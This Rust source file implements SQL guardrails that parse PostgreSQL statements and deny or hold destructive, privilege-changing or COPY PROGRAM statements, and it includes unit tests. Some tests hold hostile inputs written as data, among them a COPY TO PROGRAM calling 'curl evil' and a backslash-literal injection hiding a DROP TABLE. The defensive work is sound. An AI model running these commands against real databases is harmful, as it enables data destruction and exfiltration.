//! SQL guardrails: a pure decision over the statements of one Query or
//! Parse. Statements are parsed with sqlparser (PostgreSQL dialect); a
//! statement that cannot be parsed is refused unless the connection allows it.

use regex::Regex;
use sqlparser::ast::{Query, SetExpr, Statement};
use sqlparser::dialect::{Dialect, PostgreSqlDialect};
use sqlparser::parser::Parser;

use crate::config::GuardrailsConfig;

#[derive(Debug, thiserror::Error)]
pub enum GuardrailError {
    #[error("unknown guardrail rule {0:?}; known rules: {known}", known = RULES.join(", "))]
    UnknownRule(String),
    #[error("guardrail pattern {pattern:?} is not a valid regex: {why}")]
    BadPattern { pattern: String, why: String },
}

/// Rule names accepted in `deny` and `require_approval`.
pub const RULES: &[&str] = &[
    "drop",
    "truncate",
    "alter",
    "grant",
    "revoke",
    "create_role",
    "copy_program",
    "ddl",
    "delete",
    "update",
    "insert",
    "delete_without_where",
    "update_without_where",
];

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    Allow,
    /// Refused by `rule`; `reason` is safe to show the client (no literals).
    Deny {
        rule: String,
        reason: String,
    },
    /// Needs a human: refused for now with a message saying so.
    NeedsApproval {
        rule: String,
    },
}

pub struct Guardrails {
    deny: Vec<&'static str>,
    approval: Vec<&'static str>,
    read_only: bool,
    patterns: Vec<(String, Regex)>,
    approval_patterns: Vec<(String, Regex)>,
    allow_unparsed: bool,
}

fn rule_name(name: &str) -> Result<&'static str, GuardrailError> {
    RULES
        .iter()
        .find(|r| **r == name)
        .copied()
        .ok_or_else(|| GuardrailError::UnknownRule(name.to_string()))
}

impl Guardrails {
    pub fn new(cfg: &GuardrailsConfig) -> Result<Guardrails, GuardrailError> {
        let names = |list: &[String]| {
            list.iter()
                .map(|n| rule_name(n))
                .collect::<Result<Vec<_>, _>>()
        };
        let compile = |list: &[String]| {
            list.iter()
                .map(|p| {
                    Regex::new(p)
                        .map(|r| (p.clone(), r))
                        .map_err(|e| GuardrailError::BadPattern {
                            pattern: p.clone(),
                            why: e.to_string(),
                        })
                })
                .collect::<Result<Vec<_>, _>>()
        };
        let patterns = compile(&cfg.deny_patterns)?;
        let approval_patterns = compile(&cfg.approval_patterns)?;
        Ok(Guardrails {
            deny: names(&cfg.deny)?,
            approval: names(&cfg.require_approval)?,
            read_only: cfg.read_only,
            patterns,
            approval_patterns,
            allow_unparsed: cfg.allow_unparsed,
        })
    }

    /// Decides on every statement of `sql`; the first refusal wins, so a
    /// multi-statement Query runs entirely or not at all.
    pub fn check(&self, sql: &str) -> Verdict {
        if sql.trim().trim_matches(';').trim().is_empty() {
            return Verdict::Allow;
        }
        let v = self.check_with(sql, &PostgreSqlDialect {});
        // With standard_conforming_strings off, PostgreSQL reads \' as a quote
        // inside a string: check that reading too, or a DROP hides in a literal.
        if v == Verdict::Allow && sql.contains('\\') {
            return self.check_with(sql, &BackslashEscapes);
        }
        v
    }

    /// An SSH command or typed shell line: only the patterns apply (the SQL
    /// rules have nothing to parse). The reason names the pattern, never the command.
    pub fn check_command(&self, command: &str) -> Verdict {
        match self.check_patterns(&normalize(command)) {
            Verdict::Deny { rule, .. } => Verdict::Deny {
                reason: format!("the command matches the {rule}"),
                rule,
            },
            v => v,
        }
    }

    fn check_with(&self, sql: &str, dialect: &dyn Dialect) -> Verdict {
        let statements = match Parser::parse_sql(dialect, sql) {
            Ok(s) => s,
            Err(e) => {
                if self.allow_unparsed {
                    return self.check_patterns(&normalize(sql));
                }
                return Verdict::Deny {
                    rule: "unparsed".into(),
                    reason: format!("the statement could not be parsed, and guardrails refuse what they cannot check ({e})"),
                };
            }
        };
        // A denial anywhere wins over a hold anywhere: an approval must never
        // carry a statement that a deny rule or pattern refuses.
        let mut held = None;
        for st in &statements {
            for v in [
                self.check_statement(st),
                self.check_patterns(&normalize(&st.to_string())),
            ] {
                match v {
                    Verdict::Deny { .. } => return v,
                    Verdict::NeedsApproval { .. } if held.is_none() => held = Some(v),
                    _ => {}
                }
            }
        }
        held.unwrap_or(Verdict::Allow)
    }

    fn check_patterns(&self, normalized: &str) -> Verdict {
        for (p, re) in &self.patterns {
            if re.is_match(normalized) {
                return Verdict::Deny {
                    rule: format!("pattern {p}"),
                    reason: format!("the statement matches the deny pattern {p:?}"),
                };
            }
        }
        for (p, re) in &self.approval_patterns {
            if re.is_match(normalized) {
                return Verdict::NeedsApproval {
                    rule: format!("pattern {p}"),
                };
            }
        }
        Verdict::Allow
    }

    fn check_statement(&self, st: &Statement) -> Verdict {
        let mut kinds = Vec::new();
        classify(st, &mut kinds);
        for k in &kinds {
            if let Some(rule) = k.rules().find(|r| self.deny.contains(r)) {
                return Verdict::Deny {
                    rule: rule.into(),
                    reason: format!("{} statements are denied on this connection", k.what),
                };
            }
        }
        if self.read_only {
            if let Some(k) = kinds.iter().find(|k| k.writes) {
                return Verdict::Deny {
                    rule: "read_only".into(),
                    reason: format!(
                        "the connection is read-only and this is a {} statement",
                        k.what
                    ),
                };
            }
        }
        for k in &kinds {
            if let Some(rule) = k.rules().find(|r| self.approval.contains(r)) {
                return Verdict::NeedsApproval { rule: rule.into() };
            }
        }
        Verdict::Allow
    }
}

/// PostgreSQL with backslash escapes in string literals.
#[derive(Debug)]
struct BackslashEscapes;

impl Dialect for BackslashEscapes {
    fn dialect(&self) -> std::any::TypeId {
        std::any::TypeId::of::<PostgreSqlDialect>()
    }
    fn is_identifier_start(&self, ch: char) -> bool {
        PostgreSqlDialect {}.is_identifier_start(ch)
    }
    fn is_identifier_part(&self, ch: char) -> bool {
        PostgreSqlDialect {}.is_identifier_part(ch)
    }
    fn supports_string_literal_backslash_escape(&self) -> bool {
        true
    }
}

/// What one (possibly nested) statement does, in rule vocabulary.
#[derive(Debug)]
struct Kind {
    rule: &'static str,
    implied: Vec<&'static str>,
    what: &'static str,
    writes: bool,
}

impl Kind {
    fn rules(&self) -> impl Iterator<Item = &'static str> + '_ {
        std::iter::once(self.rule).chain(self.implied.iter().copied())
    }
}

fn kind(rule: &'static str, implied: &[&'static str], what: &'static str, writes: bool) -> Kind {
    Kind {
        rule,
        implied: implied.to_vec(),
        what,
        writes,
    }
}

/// Collects the kinds of `st` and of every statement nested in it (CTEs,
/// EXPLAIN ANALYZE, which executes its statement).
fn classify(st: &Statement, out: &mut Vec<Kind>) {
    match st {
        Statement::Query(q) => classify_query(q, out),
        // PREPARE p AS <statement> is judged by what EXECUTE p will run.
        Statement::Prepare { statement, .. } => classify(statement, out),
        Statement::Delete(d) if d.selection.is_none() => out.push(kind(
            "delete_without_where",
            &["delete"],
            "DELETE without WHERE",
            true,
        )),
        Statement::Delete(_) => out.push(kind("delete", &[], "DELETE", true)),
        Statement::Update(u) if u.selection.is_none() => out.push(kind(
            "update_without_where",
            &["update"],
            "UPDATE without WHERE",
            true,
        )),
        Statement::Update(_) => out.push(kind("update", &[], "UPDATE", true)),
        Statement::Insert(_) => out.push(kind("insert", &[], "INSERT", true)),
        Statement::Merge { .. } => out.push(kind("update", &["insert", "delete"], "MERGE", true)),
        Statement::Copy { to, target, .. } => {
            if matches!(target, sqlparser::ast::CopyTarget::Program { .. }) {
                out.push(kind("copy_program", &[], "COPY ... PROGRAM", true));
            } else if !to {
                out.push(kind("insert", &[], "COPY FROM", true));
            } else {
                out.push(kind("read", &[], "COPY TO", false));
            }
        }
        Statement::Explain {
            analyze,
            statement,
            options,
            ..
        } => {
            let runs = *analyze
                || options.iter().flatten().any(|o| {
                    let text = o.to_string().to_ascii_lowercase();
                    text.starts_with("analyze")
                        && !text.ends_with("false")
                        && !text.ends_with("off")
                });
            if runs {
                classify(statement, out);
            } else {
                out.push(kind("read", &[], "EXPLAIN", false));
            }
        }
        Statement::Truncate(_) => out.push(kind("truncate", &["ddl"], "TRUNCATE", true)),
        Statement::Grant(_) | Statement::GrantRole(_) => {
            out.push(kind("grant", &[], "GRANT", true))
        }
        Statement::Revoke(_) | Statement::RevokeRole(_) => {
            out.push(kind("revoke", &[], "REVOKE", true))
        }
        Statement::CreateRole(_) => out.push(kind("create_role", &["ddl"], "CREATE ROLE", true)),
        other => out.push(by_keyword(other)),
    }
}

fn classify_query(q: &Query, out: &mut Vec<Kind>) {
    if let Some(with) = &q.with {
        for cte in &with.cte_tables {
            classify_query(&cte.query, out);
        }
    }
    classify_set_expr(&q.body, out);
}

fn classify_set_expr(body: &SetExpr, out: &mut Vec<Kind>) {
    match body {
        SetExpr::Insert(s) | SetExpr::Update(s) | SetExpr::Delete(s) | SetExpr::Merge(s) => {
            classify(s, out)
        }
        SetExpr::Query(q) => classify_query(q, out),
        SetExpr::SetOperation { left, right, .. } => {
            classify_set_expr(left, out);
            classify_set_expr(right, out);
        }
        SetExpr::Select(s) if s.into.is_some() => out.push(kind("ddl", &[], "SELECT INTO", true)),
        _ => out.push(kind("read", &[], "SELECT", false)),
    }
}

/// Everything else, by its leading keyword in sqlparser's canonical form:
/// robust to the AST's many DDL variants.
fn by_keyword(st: &Statement) -> Kind {
    let text = st.to_string();
    let first = text
        .split_whitespace()
        .next()
        .unwrap_or("")
        .to_ascii_uppercase();
    match first.as_str() {
        "DROP" => {
            let role = text.to_ascii_uppercase().starts_with("DROP ROLE")
                || text.to_ascii_uppercase().starts_with("DROP USER");
            kind(
                "drop",
                if role {
                    &["ddl", "create_role"]
                } else {
                    &["ddl"]
                },
                "DROP",
                true,
            )
        }
        "ALTER" => {
            let role = text.to_ascii_uppercase().starts_with("ALTER ROLE")
                || text.to_ascii_uppercase().starts_with("ALTER USER");
            kind(
                "alter",
                if role {
                    &["ddl", "create_role"]
                } else {
                    &["ddl"]
                },
                "ALTER",
                true,
            )
        }
        "CREATE" | "COMMENT" | "RENAME" | "REINDEX" | "CLUSTER" => kind("ddl", &[], "DDL", true),
        "SELECT" | "SHOW" | "EXPLAIN" | "SET" | "RESET" | "BEGIN" | "START" | "COMMIT"
        | "ROLLBACK" | "END" | "SAVEPOINT" | "RELEASE" | "DECLARE" | "FETCH" | "CLOSE"
        | "DISCARD" | "DEALLOCATE" | "PREPARE" | "EXECUTE" | "LISTEN" | "UNLISTEN" | "VALUES" => {
            kind("read", &[], "read", false)
        }
        _ => kind("other", &[], "data-changing or administrative", true),
    }
}

/// Lowercase with whitespace collapsed: what `deny_patterns` match against.
pub fn normalize(sql: &str) -> String {
    sql.split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .to_lowercase()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rails(deny: &[&str], approval: &[&str], read_only: bool, patterns: &[&str]) -> Guardrails {
        let cfg = GuardrailsConfig {
            deny: deny.iter().map(|s| s.to_string()).collect(),
            require_approval: approval.iter().map(|s| s.to_string()).collect(),
            read_only,
            deny_patterns: patterns.iter().map(|s| s.to_string()).collect(),
            allow_unparsed: false,
            approval_patterns: Vec::new(),
            approvers: Vec::new(),
            approvals_required: 1,
            approval_expires: std::time::Duration::from_secs(3600),
            approval_window: None,
        };
        Guardrails::new(&cfg).unwrap()
    }

    fn denied(v: Verdict) -> String {
        match v {
            Verdict::Deny { rule, .. } => rule,
            other => panic!("expected a denial, got {other:?}"),
        }
    }

    #[test]
    fn design_md_rules() {
        let g = rails(
            &[
                "drop",
                "truncate",
                "delete_without_where",
                "update_without_where",
            ],
            &[],
            false,
            &[],
        );
        assert_eq!(denied(g.check("DROP TABLE users")), "drop");
        assert_eq!(denied(g.check("truncate users")), "truncate");
        assert_eq!(denied(g.check("delete from users")), "delete_without_where");
        assert_eq!(
            denied(g.check("update users set x = 1")),
            "update_without_where"
        );
        assert_eq!(g.check("delete from users where id = 1"), Verdict::Allow);
        assert_eq!(
            g.check("update users set x = 1 where id = 2"),
            Verdict::Allow
        );
        assert_eq!(g.check("select * from users"), Verdict::Allow);
        // Inside a CTE, and as one statement of several: the whole query is refused.
        assert_eq!(
            denied(g.check("with d as (delete from users returning id) select count(*) from d")),
            "delete_without_where"
        );
        assert_eq!(
            denied(g.check("select 1; drop table users; select 2")),
            "drop"
        );
        // EXPLAIN ANALYZE executes its statement; plain EXPLAIN does not.
        assert_eq!(
            denied(g.check("explain analyze delete from users")),
            "delete_without_where"
        );
        assert_eq!(g.check("explain delete from users"), Verdict::Allow);
    }

    #[test]
    fn kinds_and_read_only() {
        let g = rails(
            &["grant", "revoke", "create_role", "copy_program", "alter"],
            &[],
            false,
            &[],
        );
        assert_eq!(denied(g.check("grant select on t to bob")), "grant");
        assert_eq!(denied(g.check("revoke all on t from bob")), "revoke");
        assert_eq!(denied(g.check("create role evil login")), "create_role");
        assert_eq!(
            denied(g.check("copy t to program 'curl evil'")),
            "copy_program"
        );
        assert_eq!(denied(g.check("alter table t add column c int")), "alter");
        let ro = rails(&[], &[], true, &[]);
        for ok in [
            "select 1",
            "show search_path",
            "explain select 1",
            "begin",
            "copy t to stdout",
            "set search_path = public",
        ] {
            assert_eq!(ro.check(ok), Verdict::Allow, "{ok}");
        }
        for bad in [
            "insert into t values (1)",
            "update t set a = 1 where b",
            "create table x (a int)",
            "explain analyze insert into t values (1)",
            "select * into newt from t",
            "copy t from stdin",
        ] {
            assert_eq!(denied(ro.check(bad)), "read_only", "{bad}");
        }
    }

    #[test]
    fn patterns_approval_and_unparsed() {
        let g = rails(&[], &["delete", "ddl"], false, &[r"pg_sleep\("]);
        assert_eq!(
            denied(g.check("SELECT   PG_SLEEP(10)")),
            "pattern pg_sleep\\("
        );
        assert_eq!(
            g.check("delete from t where id = 1"),
            Verdict::NeedsApproval {
                rule: "delete".into()
            }
        );
        assert_eq!(
            g.check("create index on t (a)"),
            Verdict::NeedsApproval { rule: "ddl".into() }
        );
        assert_eq!(denied(g.check("selec wat from")), "unparsed");
        assert_eq!(g.check(""), Verdict::Allow);
    }

    #[test]
    fn no_hiding_in_prepare_or_backslash_literals() {
        let g = rails(&["drop", "delete_without_where"], &[], false, &[]);
        assert_eq!(
            denied(g.check("prepare p as delete from users")),
            "delete_without_where"
        );
        // Read with backslash escapes (standard_conforming_strings off), this is a DROP.
        assert_eq!(
            denied(g.check(r"select 'a\', ' ; drop table users; --'")),
            "drop"
        );
        assert_eq!(g.check(r"select 'C:\temp'"), Verdict::Allow);
        assert!(Guardrails::new(&GuardrailsConfig {
            deny: vec!["dorp".into()],
            ..Default::default()
        })
        .is_err());
    }
}

#[cfg(test)]
mod approval_tests {
    use super::*;

    fn rails(deny_patterns: &[&str], approval: &[&str], approval_patterns: &[&str]) -> Guardrails {
        let cfg = GuardrailsConfig {
            deny: Vec::new(),
            require_approval: approval.iter().map(|s| s.to_string()).collect(),
            read_only: false,
            deny_patterns: deny_patterns.iter().map(|s| s.to_string()).collect(),
            allow_unparsed: false,
            approval_patterns: approval_patterns.iter().map(|s| s.to_string()).collect(),
            approvers: Vec::new(),
            approvals_required: 1,
            approval_expires: std::time::Duration::from_secs(3600),
            approval_window: None,
        };
        Guardrails::new(&cfg).unwrap()
    }

    #[test]
    fn patterns_hold_and_denials_win_over_holds() {
        let r = rails(&["from secrets"], &["delete"], &["from payroll"]);
        assert!(matches!(
            r.check("select * from payroll"),
            Verdict::NeedsApproval { .. }
        ));
        assert_eq!(r.check("select 1"), Verdict::Allow);
        // A held statement in the same Query as a denied one: denied, so no
        // approval can ever carry the denied part.
        assert!(matches!(
            r.check("delete from t where id = 1; select * from secrets"),
            Verdict::Deny { .. }
        ));
        assert!(matches!(
            r.check("delete from secrets where id = 1"),
            Verdict::Deny { .. }
        ));
    }
}
